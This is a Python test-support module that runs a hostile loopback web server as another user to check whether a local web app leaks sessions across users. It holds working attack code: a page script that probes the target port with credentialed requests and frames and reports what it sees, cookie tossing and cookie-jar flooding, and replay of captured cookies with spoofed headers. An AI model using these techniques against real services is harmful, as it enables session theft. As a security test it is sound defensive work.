"""A server of another user on loopback, which notes what browsers send it and tries all of it on another port.

`python -m tests.support.web.hostile_server UID`. Its first line is its port. For each line ``PORT`` on stdin it attacks
that port, and prints what it heard and what it was answered.
"""

import codecs
import http.client
import json
import os
import sys
import threading
from http.server import BaseHTTPRequestHandler
from itertools import product
from socketserver import ThreadingTCPServer
from typing import Any, Final
from urllib.parse import unquote, urlsplit

from typing_extensions import override

TIMEOUT_SECONDS = 10
LOOPBACK = "127.0.0.1"
PATHS = ("/", "/sessions", "/s/shop", "/s/shop/state", "/s/shop/rows", "/find?q=secret")
ORIGINS: Final[tuple[dict[str, str], ...]] = ({}, {"Sec-Fetch-Site": "same-origin"})
BIG_COOKIES, MANY_COOKIES = 40, 400

# The page asks and frames the other port as well as a page can, and reports to its server all that it sees.
PAGE = b"""<!doctype html><meta charset="utf-8"><title>hostile</title><script>
(async () => {
  const port = new URLSearchParams(location.search).get("port"), seen = [document.referrer, document.cookie];
  seen.push(window.name, `${window.opener}`, history.length, ...performance.getEntries().map((entry) => entry.name));
  for (const host of ["127.0.0.1", "localhost"]) for (const path of ["/", "/sessions", "/s/shop", "/page.js"]) {
    const url = `http://${host}:${port}${path}`;
    for (const mode of ["cors", "no-cors"]) try {
      const answer = await fetch(url, { mode, credentials: "include" });
      seen.push(answer.type, answer.url, await answer.text());
    } catch (error) { seen.push(`${error}`); }
    for (const tag of ["iframe", "script", "img"]) await new Promise((done) => {
      const element = document.createElement(tag);
      element.src = url;
      element.onload = element.onerror = done;
      document.head.append(element);
      if (tag === "iframe") document.documentElement.append(element);
    });
    for (const frame of document.querySelectorAll("iframe")) try {
      seen.push(frame.contentWindow.location.href, frame.contentDocument.body.innerHTML);
    } catch (error) { seen.push(`${error}`); }
  }
  for (const entry of performance.getEntries()) seen.push(entry.name, JSON.stringify(entry));
  await fetch("/seen?" + encodeURIComponent(JSON.stringify(seen)).slice(0, 50000));
  document.title = "done";
})();
</script>"""

heard: list[tuple[str, dict[str, str]]] = []


class Hostile(BaseHTTPRequestHandler):
    """Notes each request. ``/to?URL`` leads there; ``/big`` and ``/many`` fill the browser's cookies of this host."""

    def do_GET(self) -> None:
        """Answer with the page, or as the path says."""
        heard.append((self.path, dict(self.headers.items())))
        path, _, query = self.path.partition("?")
        self.send_response(302 if path == "/to" else 200)
        if path == "/to":
            self.send_header("Location", unquote(query))
        for cookie in _cookies(path):
            self.send_header("Set-Cookie", cookie)
        page = b"" if path == "/to" else PAGE
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    @override
    def log_message(self, format: str, *args: object) -> None:
        pass


def _cookies(path: str) -> list[str]:
    """Return cookies beside ours: false ones, too many ones, or too long ones."""
    number, length = {"/many": (MANY_COOKIES, 1), "/big": (BIG_COOKIES, 4_000)}.get(path, (0, 0))
    false = ["seqthink=false; Path=/", "seqthink=; Path=/sessions"]
    return false + [f"{path[1:]}{index}={'x' * length}; Path=/" for index in range(number)]


def attack(port: int) -> list[tuple[int, dict[str, str], str]]:
    """Ask the port for everything, with each cookie and below each path that was ever heard."""
    cookies = {headers["Cookie"] for _, headers in heard if "Cookie" in headers}
    heard_paths = {urlsplit(path).path.rstrip("/") for path, _ in heard}
    paths = {*PATHS, *(below + path for below in heard_paths for path in PATHS)}
    asked = product(sorted(paths), [*({"Cookie": cookie} for cookie in sorted(cookies)), {}], ORIGINS)
    return [_ask(port, path, cookie | origin) for path, cookie, origin in asked]


def _ask(port: int, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], str]:
    connection = http.client.HTTPConnection(LOOPBACK, port, timeout=TIMEOUT_SECONDS)
    try:
        connection.request("GET", path, headers=headers)
        answer = connection.getresponse()
        return answer.status, dict(answer.getheaders()), answer.read().decode("utf-8", "replace")
    finally:
        connection.close()


def _say(value: Any) -> None:  # noqa: ANN401 - any JSON value
    sys.stdout.write(json.dumps(value) + "\n")
    sys.stdout.flush()


def main(uid: int) -> None:
    """Serve until stdin ends."""
    codecs.lookup("idna")  # the other user may not read where Python is, so nothing is loaded later
    if uid != os.geteuid():
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    server = ThreadingTCPServer((LOOPBACK, 0), Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _say(server.server_address[1])
    for line in sys.stdin:
        _say({"uid": os.geteuid(), "heard": heard, "answers": attack(int(line))})


if __name__ == "__main__":
    main(int(sys.argv[1]))
